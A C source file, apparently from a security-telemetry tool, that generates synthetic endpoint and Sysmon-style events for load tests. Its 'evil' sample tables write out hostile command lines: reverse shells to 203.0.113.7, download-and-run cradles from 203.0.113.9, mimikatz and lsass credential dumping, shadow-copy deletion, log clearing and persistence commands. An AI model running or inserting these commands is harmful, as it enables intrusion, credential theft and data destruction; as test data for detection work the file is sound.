/* SPDX-License-Identifier: Apache-2.0 */
/*
 * gen: synthetic endpoint telemetry for load tests and benchmarks.
 * Not part of the pipeline; a small xorshift generator over fixed tables,
 * so runs are reproducible and cost next to nothing per event.
 */
#include "kta/gen.h"
#include "kta/hit.h"

#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>

#define N(a) (sizeof(a) / sizeof((a)[0]))

static uint64_t next(struct kta_gen *g)
{
    /* xorshift64* */
    g->state ^= g->state >> 12;
    g->state ^= g->state << 25;
    g->state ^= g->state >> 27;
    return g->state * 2685821657736338717ULL;
}

static uint32_t pick(struct kta_gen *g, uint32_t n)
{
    return (uint32_t)((next(g) >> 32) % n);
}

void kta_gen_init(struct kta_gen *g, uint64_t seed, double malicious)
{
    g->state = seed * 0x9E3779B97F4A7C15ULL + 0x2545F4914F6CDD1DULL;
    if (!g->state)
        g->state = 1;
    g->malicious = malicious;
    g->n = 0;
    g->schema = KTA_GEN_KTA;
    g->samples = NULL;
    g->nsamples = 0;
    g->rules = NULL;
    g->nrules = 0;
    g->nevil = 0;
    g->rule_start = 0;
    g->rule_step = 1;
}

/* ---- kta: the original ~200-byte events --------------------------------- */

static const char *users[] = { "alice", "bob", "carol", "dave", "svc-backup", "root", "www-data",
                               "postgres", "eve", "mallory" };
static const char *benign_procs[][2] = {
    { "/usr/bin/python3", "python3 /opt/app/worker.py --queue default" },
    { "/usr/sbin/sshd", "sshd: alice [priv]" },
    { "/usr/bin/ls", "ls -la /var/log" },
    { "/usr/bin/git", "git pull --ff-only origin main" },
    { "/usr/lib/postgresql/15/bin/postgres", "postgres: checkpointer" },
    { "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule" },
    { "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "firefox.exe -contentproc --channel=1" },
    { "/usr/bin/curl", "curl -fsS https://updates.example.com/manifest.json -o /tmp/m.json" },
    { "/usr/bin/systemctl", "systemctl status nginx" },
    { "C:\\Windows\\explorer.exe", "explorer.exe" },
};
/* Each matches one of the default rules in rules/. */
static const char *evil_procs[][2] = {
    { "/bin/bash", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" },
    { "/usr/bin/curl", "curl -s http://203.0.113.9/x.sh | sh" },
    { "C:\\Users\\Public\\mimikatz.exe", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit" },
    { "C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe cl Security" },
    { "/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 9001" },
    { "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet" },
};
static const char *files[] = { "/etc/hosts", "/var/log/syslog", "/home/alice/.bashrc",
                               "C:\\Users\\bob\\Documents\\report.docx", "/tmp/build.log",
                               "/opt/app/config.yaml" };
static const char *evil_files[] = { "/etc/shadow", "/root/.ssh/authorized_keys",
                                    "/etc/cron.d/persist" };
static const char *severities[] = { "informational", "low", "low", "medium", "low",
                                    "informational", "low", "medium" };

static void ip(struct kta_gen *g, char *out, size_t size, int external)
{
    uint64_t r = next(g);
    if (external)
        snprintf(out, size, "198.51.100.%u", (unsigned)(r % 254 + 1));
    else
        snprintf(out, size, "10.%u.%u.%u", (unsigned)(r >> 8 & 255), (unsigned)(r >> 16 & 255),
                 (unsigned)((r >> 24 & 255) % 254 + 1));
}

static void str_field(struct kta_buf *out, const char *name, const char *value)
{
    kta_buf_printf(out, ",\"%s\":", name);
    kta_json_quote(out, value, strlen(value));
}

static int kta_event(struct kta_gen *g, struct kta_buf *out)
{
    int evil = (double)(next(g) >> 11) / 9007199254740992.0 < g->malicious;
    uint32_t kind = pick(g, 4);
    char a[32], b[32];

    g->n++;
    kta_buf_printf(out, "{\"host\":\"endpoint%04u\",\"ts\":%llu", pick(g, 5000),
                   1764230400000ULL + g->n * 7);
    switch (kind) {
    case 0: { /* process */
        const char *(*p)[2] = evil ? &evil_procs[pick(g, N(evil_procs))]
                                   : &benign_procs[pick(g, N(benign_procs))];
        kta_buf_appends(out, ",\"event_type\":\"process\"");
        str_field(out, "user", users[pick(g, N(users))]);
        kta_buf_printf(out, ",\"process\":{\"pid\":%u,\"ppid\":%u", pick(g, 60000) + 100,
                       pick(g, 5000) + 1);
        str_field(out, "name", strrchr((*p)[0], '/') ? strrchr((*p)[0], '/') + 1
                               : strrchr((*p)[0], '\\') ? strrchr((*p)[0], '\\') + 1 : (*p)[0]);
        str_field(out, "executable", (*p)[0]);
        str_field(out, "command_line", (*p)[1]);
        kta_buf_appends(out, "}");
        break;
    }
    case 1: /* network */
        ip(g, a, sizeof(a), 0);
        ip(g, b, sizeof(b), 1);
        kta_buf_appends(out, ",\"event_type\":\"network\"");
        kta_buf_printf(out, ",\"src_ip\":\"%s\",\"src_port\":%u,\"dst_ip\":\"%s\",\"dst_port\":%u,"
                       "\"protocol\":\"tcp\",\"bytes_out\":%u", a, pick(g, 30000) + 32768,
                       evil ? "203.0.113.7" : b, evil ? 4444 : (unsigned[]){ 443, 80, 53, 22 }[pick(g, 4)],
                       pick(g, 100000));
        break;
    case 2: /* login */
        ip(g, a, sizeof(a), evil);
        kta_buf_appends(out, ",\"event_type\":\"login\"");
        str_field(out, "user", users[pick(g, N(users))]);
        kta_buf_printf(out, ",\"src_ip\":\"%s\",\"method\":\"%s\",\"result\":\"%s\"", a,
                       pick(g, 2) ? "ssh" : "password", evil ? "failure" : "success");
        if (evil)
            kta_buf_printf(out, ",\"failed_attempts\":%u", 20 + pick(g, 200));
        break;
    default: /* file */
        kta_buf_appends(out, ",\"event_type\":\"file\"");
        str_field(out, "user", users[pick(g, N(users))]);
        str_field(out, "path", evil ? evil_files[pick(g, N(evil_files))] : files[pick(g, N(files))]);
        str_field(out, "action", evil ? "write" : (pick(g, 3) ? "read" : "write"));
        break;
    }
    str_field(out, "severity", evil ? (pick(g, 2) ? "high" : "critical") : severities[pick(g, N(severities))]);
    kta_buf_append(out, "}", 1);
    return evil;
}

/* ---- shared helpers for the sysmon and linux schemas --------------------- */

#define BASE_MS 1764230400000ULL   /* 2025-11-27T08:00:00Z */

static int coin(struct kta_gen *g, double p)
{
    return (double)(next(g) >> 11) / 9007199254740992.0 < p;
}

/* FNV-1a: a stable seed from a string (file hashes that stay the same for
 * the same image, as in real logs). */
static uint64_t fnv(const char *s)
{
    return kta_fnv1a(KTA_FNV_SEED, s, strlen(s));
}

static void hex(uint64_t *s, char *out, size_t n, int upper)
{
    const char *digits = upper ? "0123456789ABCDEF" : "0123456789abcdef";
    uint64_t r = 0;

    for (size_t i = 0; i < n; i++) {
        if (i % 16 == 0) {
            *s ^= *s >> 12;
            *s ^= *s << 25;
            *s ^= *s >> 27;
            r = *s * 2685821657736338717ULL;
        }
        out[i] = digits[r & 15];
        r >>= 4;
    }
    out[n] = '\0';
}

/*
 * One event's fields.  Every string field goes through put(), which
 * substitutes an override of the same name (a malicious pattern or a
 * sample) and expands "{u}" to the event's user name; put_rest() then adds
 * the overrides the event type had no field for.  Keys are never repeated.
 */
struct emit {
    struct kta_buf     *out;
    const char *const  *ovr;    /* name, value, ..., NULL; or NULL */
    uint32_t            used;   /* bit i: pair i written */
    const char         *user;   /* short user name for "{u}" */
    int                 raw;    /* overrides are rule text: no "{u}" */
};

static void put_value(struct emit *e, const char *v)
{
    char tmp[2048];
    size_t n = 0, ul = strlen(e->user);

    if (!strstr(v, "{u}")) {
        kta_json_quote(e->out, v, strlen(v));
        return;
    }
    while (*v && n + ul + 1 < sizeof(tmp)) {
        if (v[0] == '{' && v[1] == 'u' && v[2] == '}') {
            memcpy(tmp + n, e->user, ul);
            n += ul;
            v += 3;
        } else {
            tmp[n++] = *v++;
        }
    }
    kta_json_quote(e->out, tmp, n);
}

/* The override of name, marked written; or NULL. */
static const char *take(struct emit *e, const char *name)
{
    for (uint32_t i = 0; e->ovr && e->ovr[2 * i] && i < 32; i++)
        if (strcmp(e->ovr[2 * i], name) == 0) {
            e->used |= 1u << i;
            return e->ovr[2 * i + 1];
        }
    return NULL;
}

static void put_ovr(struct emit *e, const char *v)
{
    if (e->raw)
        kta_json_quote(e->out, v, strlen(v));
    else
        put_value(e, v);
}

static void put(struct emit *e, const char *name, const char *v)
{
    const char *o = take(e, name);

    kta_buf_printf(e->out, ",\"%s\":", name);
    if (o)
        put_ovr(e, o);
    else
        put_value(e, v);
}

static void put_fmt(struct emit *e, const char *name, const char *fmt, ...)
    __attribute__((format(printf, 3, 4)));
static void put_fmt(struct emit *e, const char *name, const char *fmt, ...)
{
    char tmp[512];
    va_list ap;

    va_start(ap, fmt);
    vsnprintf(tmp, sizeof(tmp), fmt, ap);
    va_end(ap);
    put(e, name, tmp);
}

/* A decimal integer as JSON writes it (no sign but '-', no leading 0). */
static int is_int_text(const char *s)
{
    size_t i = s[0] == '-';

    if (!s[i] || (s[i] == '0' && s[i + 1]) || strlen(s + i) > 15)
        return 0;
    for (; s[i]; i++)
        if (s[i] < '0' || s[i] > '9')
            return 0;
    return 1;
}

static void put_int(struct emit *e, const char *name, long long v)
{
    const char *o = take(e, name);

    if (!o)
        kta_buf_printf(e->out, ",\"%s\":%lld", name, v);
    else if (is_int_text(o))
        kta_buf_printf(e->out, ",\"%s\":%s", name, o);
    else {
        kta_buf_printf(e->out, ",\"%s\":", name);
        put_ovr(e, o);
    }
}

static void put_rest(struct emit *e)
{
    for (uint32_t i = 0; e->ovr && e->ovr[2 * i] && i < 32; i++)
        if (!(e->used & 1u << i)) {
            kta_buf_printf(e->out, ",\"%s\":", e->ovr[2 * i]);
            put_ovr(e, e->ovr[2 * i + 1]);
        }
}

/* The override value of name, or dflt. */
static const char *ovr_get(const char *const *ovr, const char *name, const char *dflt)
{
    for (size_t i = 0; ovr && ovr[2 * i]; i++)
        if (strcmp(ovr[2 * i], name) == 0)
            return ovr[2 * i + 1];
    return dflt;
}

/* "2025-11-27 08:00:00.123" (Sysmon's UtcTime) or, iso, with a T and Z. */
static void utc(char *out, size_t size, uint64_t ms, int iso)
{
    time_t t = (time_t)(ms / 1000);
    struct tm tm;

    gmtime_r(&t, &tm);
    snprintf(out, size, iso ? "%04d-%02d-%02dT%02d:%02d:%02d.%03uZ" : "%04d-%02d-%02d %02d:%02d:%02d.%03u",
             tm.tm_year + 1900, tm.tm_mon + 1, tm.tm_mday, tm.tm_hour, tm.tm_min, tm.tm_sec,
             (unsigned)(ms % 1000));
}

/* Sysmon's process GUIDs: the first part is per machine. */
static void guid(struct kta_gen *g, char *out, size_t size, uint32_t host)
{
    uint64_t r = next(g);

    snprintf(out, size, "{%08x-%04x-%04x-%04x-%012llx}", (unsigned)(0x7a3c0000u + host * 977u),
             (unsigned)(r & 0xffff), (unsigned)(r >> 16 & 0xffff), (unsigned)(0x1000 + (r >> 32 & 0xfff)),
             (unsigned long long)(next(g) & 0xffffffffffffULL));
}

static const char *win_users[] = { "alice", "bob", "carol", "dave", "erin", "frank", "grace",
                                   "heidi", "ivan", "judy", "mallory", "svc-backup" };

/* ---- sysmon: flat Windows events ------------------------------------------ */

#define MS_PRODUCT "Microsoft\u00ae Windows\u00ae Operating System"
#define SYSTEM_SID "S-1-5-18"

/* who: 0 SYSTEM, 1 the logged-on user, 2 NETWORK SERVICE, 3 LOCAL SERVICE */
struct wproc {
    const char *image, *cmd, *ofn, *desc, *product, *company, *version;
    const char *pimage, *pcmd, *cwd, *integrity;
    int who;
};

static const struct wproc wprocs[] = {
    { "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
      "svchost.exe", "Host Process for Windows Services", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\services.exe",
      "C:\\Windows\\system32\\services.exe", "C:\\Windows\\system32\\", "System", 0 },
    { "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p -s Dhcp",
      "svchost.exe", "Host Process for Windows Services", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\services.exe",
      "C:\\Windows\\system32\\services.exe", "C:\\Windows\\system32\\", "System", 3 },
    { "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
      "--disable-gpu-compositing --lang=en-US --device-scale-factor=1 --num-raster-threads=4 "
      "--enable-main-frame-before-activation --renderer-client-id=12 "
      "--time-ticks-at-unix-epoch=-1764230396587123 --launch-time-ticks=85321458 "
      "--field-trial-handle=1936,i,1484357283569237151,5829513016475187823,262144 "
      "--variations-seed-version --mojo-platform-channel-handle=4312 /prefetch:1",
      "chrome.exe", "Google Chrome", "Google Chrome", "Google LLC", "131.0.6778.86",
      "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --profile-directory=Default",
      "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86\\", "Low", 1 },
    { "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=utility "
      "--utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none "
      "--field-trial-handle=2260,i,9261744158283150232,17735069617316424178,262144 "
      "--variations-seed-version --mojo-platform-channel-handle=2480 /prefetch:3",
      "msedge.exe", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "131.0.2903.70",
      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
      "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --no-startup-window",
      "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\131.0.2903.70\\", "Medium", 1 },
    { "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
      "\"C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
      "OneDrive.exe", "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation",
      "24.211.1020.0001", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
      "C:\\Users\\{u}\\", "Medium", 1 },
    { "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
      "taskhostw.exe", "Host Process for Windows Tasks", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", "C:\\Windows\\system32\\",
      "Medium", 1 },
    { "C:\\Windows\\System32\\SearchProtocolHost.exe",
      "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe12_ "
      "Global\\UsGthrCtrlFltPipeMssGthrPipe12 1 -2147483646 \"Software\\Microsoft\\Windows Search\" "
      "\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\" "
      "\"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc\" \"DownLevelDaemon\"",
      "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", MS_PRODUCT,
      "Microsoft Corporation", "7.0.19041.3636 (WinBuild.160101.0800)",
      "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\system32\\SearchIndexer.exe /Embedding",
      "C:\\Windows\\system32\\", "System", 0 },
    { "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
      "Wmiprvse.exe", "WMI Provider Host", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "C:\\Windows\\system32\\", "System", 2 },
    { "C:\\Program Files\\Git\\cmd\\git.exe", "\"C:\\Program Files\\Git\\cmd\\git.exe\" fetch --no-tags --prune origin",
      "git.exe", "Git for Windows", "Git", "The Git Development Community", "2.47.1.windows.1",
      "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
      "\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"",
      "C:\\Users\\{u}\\source\\repos\\billing-service\\", "Medium", 1 },
    { "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
      "\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" --type=utility "
      "--utility-sub-type=node.mojom.NodeService --lang=en-US --service-sandbox-type=none "
      "--dns-result-order=ipv4first --inspect-port=0 "
      "--field-trial-handle=1788,i,3914431637357925341,7711522862373913112,262144 /prefetch:8",
      "electron.exe", "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "1.95.3",
      "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
      "\"C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\"",
      "C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\", "Medium", 1 },
    { "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\" /recycle",
      "Outlook.exe", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation",
      "16.0.18129.20158", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
      "C:\\Users\\{u}\\Documents\\", "Medium", 1 },
    { "C:\\Windows\\System32\\backgroundTaskHost.exe",
      "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider",
      "backgroundTaskHost.exe", "Background Task Host", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "C:\\Windows\\system32\\", "Medium", 1 },
    { "C:\\Windows\\System32\\dllhost.exe",
      "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}",
      "dllhost.exe", "COM Surrogate", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "C:\\Windows\\system32\\", "Medium", 1 },
    { "C:\\Windows\\System32\\RuntimeBroker.exe", "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
      "RuntimeBroker.exe", "Runtime Broker", MS_PRODUCT, "Microsoft Corporation",
      "10.0.19041.3636 (WinBuild.160101.0800)", "C:\\Windows\\System32\\svchost.exe",
      "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p", "C:\\Windows\\system32\\", "Medium", 1 },
    { "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
      "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" "
      "\"C:\\Users\\{u}\\OneDrive - Contoso\\Finance\\Q3-forecast.xlsx\"",
      "Excel.exe", "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "16.0.18129.20158",
      "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "C:\\Users\\{u}\\Documents\\",
      "Medium", 1 },
};

/* Modules for image loads (EventID 7). */
static const char *const wdlls[][4] = {
    { "C:\\Windows\\System32\\ntdll.dll", "ntdll.dll", "NT Layer DLL", "Microsoft Windows" },
    { "C:\\Windows\\System32\\kernel32.dll", "kernel32", "Windows NT BASE API Client DLL", "Microsoft Windows" },
    { "C:\\Windows\\System32\\KernelBase.dll", "Kernelbase.dll", "Windows NT BASE API Client DLL", "Microsoft Windows" },
    { "C:\\Windows\\System32\\combase.dll", "COMBASE.DLL", "Microsoft COM for Windows", "Microsoft Windows" },
    { "C:\\Windows\\System32\\crypt32.dll", "CRYPT32.DLL", "Crypto API32", "Microsoft Windows" },
    { "C:\\Windows\\System32\\winhttp.dll", "winhttp.dll", "Windows HTTP Services", "Microsoft Windows" },
    { "C:\\Program Files\\Google\\Chrome\\Application\\131.0.6778.86\\chrome_elf.dll", "chrome_elf.dll",
      "Google Chrome", "Google LLC" },
};

/* Files written (EventID 11), by the process of the same index modulo. */
static const char *const wfiles[] = {
    "C:\\Users\\{u}\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Cache\\Cache_Data\\f_00a3c1",
    "C:\\Windows\\SoftwareDistribution\\DataStore\\Logs\\edb.log",
    "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\OneDrive\\logs\\Personal\\SyncDiagnostics.log",
    "C:\\Users\\{u}\\source\\repos\\billing-service\\.git\\FETCH_HEAD",
    "C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Outlook\\{u}@contoso.com.ost",
    "C:\\ProgramData\\Microsoft\\Search\\Data\\Applications\\Windows\\tmp.edb",
    "C:\\Users\\{u}\\Documents\\Q3-forecast.xlsx",
};

/* Registry keys (EventID 12/13/14) with a value for SetValue. */
static const char *const wregs[][2] = {
    { "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Orchestrator\\UScheduler\\11ea8bd8\\workCompleted",
      "DWORD (0x00000001)" },
    { "HKU\\{sid}\\Software\\Microsoft\\Office\\16.0\\Common\\Roaming\\Identities\\Settings\\1144\\LastUpdated",
      "QWORD (0x01db40a2-0x6c4a1e00)" },
    { "HKLM\\System\\CurrentControlSet\\Services\\Tcpip\\Parameters\\Interfaces\\{7f4c1b3a-9a55-4c0e-8d2f-1e6b3c2a9d10}\\DhcpIPAddress",
      "10.20.31.118" },
    { "HKU\\{sid}\\Software\\Microsoft\\OneDrive\\Accounts\\Business1\\LastSignInTime", "DWORD (0x6746c1d0)" },
    { "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated",
      "Binary Data" },
};

static const char *const wdomains[][2] = {
    { "www.google.com", "142.250.185.68" },
    { "outlook.office365.com", "52.97.146.162" },
    { "login.microsoftonline.com", "20.190.159.2" },
    { "github.com", "140.82.121.4" },
    { "update.googleapis.com", "142.250.185.99" },
    { "oneclient.sfx.ms", "13.107.42.16" },
    { "ctldl.windowsupdate.com", "93.184.221.240" },
    { "fileserver01.corp.contoso.com", "10.20.0.15" },
};

/* kind: EventID of the base event.  kv: overrides, name, value pairs. */
struct evil {
    int         kind;
    const char *kv[17];
};

#define PS "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define CMD "C:\\Windows\\System32\\cmd.exe"
#define WINWORD "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
#define WIN_TOOL(img, ofn, desc) "Image", img, "OriginalFileName", ofn, "Description", desc, \
    "Product", MS_PRODUCT, "Company", "Microsoft Corporation"

static const struct evil wevil[] = {
    { 1, { WIN_TOOL(PS, "PowerShell.EXE", "Windows PowerShell"),
           "CommandLine", "powershell.exe -NoP -NonI -W Hidden -enc "
           "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8A"
           "dwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8A"
           "YQAuAHAAcwAxACcAKQA=",
           "ParentImage", WINWORD,
           "ParentCommandLine", "\"" WINWORD "\" /n \"C:\\Users\\{u}\\Downloads\\invoice_8841.doc\"", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\certutil.exe", "CertUtil.exe", "CertUtil.exe"),
           "CommandLine", "certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\payload.exe",
           "ParentImage", CMD, "ParentCommandLine", "cmd.exe /c certutil.exe -urlcache -split -f http://203.0.113.9/payload.exe C:\\Users\\Public\\payload.exe", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
           "CommandLine", "rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();"
           "GetObject(\"script:http://203.0.113.9/p.sct\")", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\whoami.exe", "whoami.exe", "whoami - displays logged on user information"),
           "CommandLine", "whoami /all", "ParentImage", CMD, "ParentCommandLine", "cmd.exe", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\vssadmin.exe", "VSSADMIN.EXE", "Command Line Interface for Microsoft\u00ae Volume Shadow Copy Service "),
           "CommandLine", "vssadmin.exe delete shadows /all /quiet", "IntegrityLevel", "High", NULL } },
    { 1, { "Image", "C:\\Users\\Public\\mimikatz.exe", "OriginalFileName", "mimikatz.exe",
           "Description", "mimikatz for Windows", "Product", "mimikatz", "Company", "gentilkiwi (Benjamin DELPY)",
           "CommandLine", "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
           "IntegrityLevel", "High", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility"),
           "CommandLine", "wevtutil.exe cl Security", "IntegrityLevel", "High", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\reg.exe", "reg.exe", "Registry Console Tool"),
           "CommandLine", "reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save /y", "IntegrityLevel", "High", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\schtasks.exe", "schtasks.exe", "Task Scheduler Configuration Tool"),
           "CommandLine", "schtasks.exe /create /sc minute /mo 15 /tn \"MicrosoftEdgeUpdateTaskMachine\" "
           "/tr \"C:\\Users\\Public\\msedgeupdate.exe\" /f", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\net.exe", "net.exe", "Net Command"),
           "CommandLine", "net user support_adm P@ssw0rd123! /add", "IntegrityLevel", "High", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\mshta.exe", "MSHTA.EXE", "Microsoft (R) HTML Application host"),
           "CommandLine", "mshta.exe http://203.0.113.9/update.hta", "ParentImage", "C:\\Windows\\explorer.exe", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\rundll32.exe", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
           "CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 652 C:\\Users\\Public\\lsass.dmp full",
           "IntegrityLevel", "High", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\bitsadmin.exe", "bitsadmin.exe", "BITS administration utility"),
           "CommandLine", "bitsadmin.exe /transfer job /download /priority high http://203.0.113.9/b.exe C:\\Users\\Public\\b.exe", NULL } },
    { 1, { WIN_TOOL("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic.exe", "WMI Commandline Utility"),
           "CommandLine", "wmic.exe shadowcopy delete /nointeractive", "IntegrityLevel", "High", NULL } },
    { 13, { "Image", "C:\\Users\\{u}\\AppData\\Local\\Temp\\updater.exe",
            "TargetObject", "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            "Details", "C:\\Users\\Public\\updater.exe", NULL } },
    { 22, { "Image", PS, "QueryName", "203-0-113-9.ngrok-free.app", NULL } },
    { 4688, { "NewProcessName", PS, "CommandLine", "powershell.exe -ep bypass -c \"IEX (New-Object "
              "Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"", NULL } },
};

struct wctx {
    uint32_t              host;
    char                  computer[48];
    const char           *user;
    char                  sid[64];
    const struct wproc   *p;
    uint64_t              ms;
};

static void sysmon_head(struct kta_gen *g, struct emit *e, struct wctx *w, int id,
                        const char *channel, const char *provider)
{
    char ts[40];

    kta_buf_printf(e->out, "{\"EventID\":%d", id);
    put(e, "Channel", channel);
    put(e, "Provider_Name", provider);
    put(e, "Computer", w->computer);
    put_int(e, "EventRecordID", (long long)(1200000 + g->n));
    put(e, "Keywords", id >= 4000 ? "0x8020000000000000" : "0x8000000000000000");
    utc(ts, sizeof(ts), w->ms, 1);
    put(e, "TimeCreated", ts);
}

static const char *wuser(const struct wctx *w, char *buf, size_t size)
{
    static const char *svc[] = { "NT AUTHORITY\\SYSTEM", NULL, "NT AUTHORITY\\NETWORK SERVICE",
                                 "NT AUTHORITY\\LOCAL SERVICE" };

    if (w->p->who == 1) {
        snprintf(buf, size, "CONTOSO\\%s", w->user);
        return buf;
    }
    return svc[w->p->who];
}

static void hashes(const char *image, char *out, size_t size)
{
    char sha1[41], md5[33], sha256[65], imp[33];
    uint64_t s = fnv(image) | 1;

    hex(&s, sha1, 40, 1);
    hex(&s, md5, 32, 1);
    hex(&s, sha256, 64, 1);
    hex(&s, imp, 32, 1);
    snprintf(out, size, "SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s", sha1, md5, sha256, imp);
}

static void sysmon_common(struct kta_gen *g, struct emit *e, struct wctx *w, const char *rule)
{
    char ts[40], gd[48];

    put(e, "RuleName", rule);
    utc(ts, sizeof(ts), w->ms, 0);
    put(e, "UtcTime", ts);
    guid(g, gd, sizeof(gd), w->host);
    put(e, "ProcessGuid", gd);
    put_int(e, "ProcessId", 400 + 4 * (long long)pick(g, 4000));
